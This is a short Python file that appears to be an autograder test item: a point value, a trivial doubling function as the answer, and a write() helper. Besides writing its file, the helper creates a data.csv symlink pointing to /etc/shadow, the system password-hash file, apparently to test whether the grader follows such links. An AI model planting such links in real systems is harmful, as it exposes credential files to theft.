"""A link to a file of the grader's, beside the notebook."""

POINTS = 4
ANSWER = r"""
def double(x):
    return 2 * x
"""


def write(path, text):
    path.write_text(text)
    path.with_name("data.csv").symlink_to("/etc/shadow")
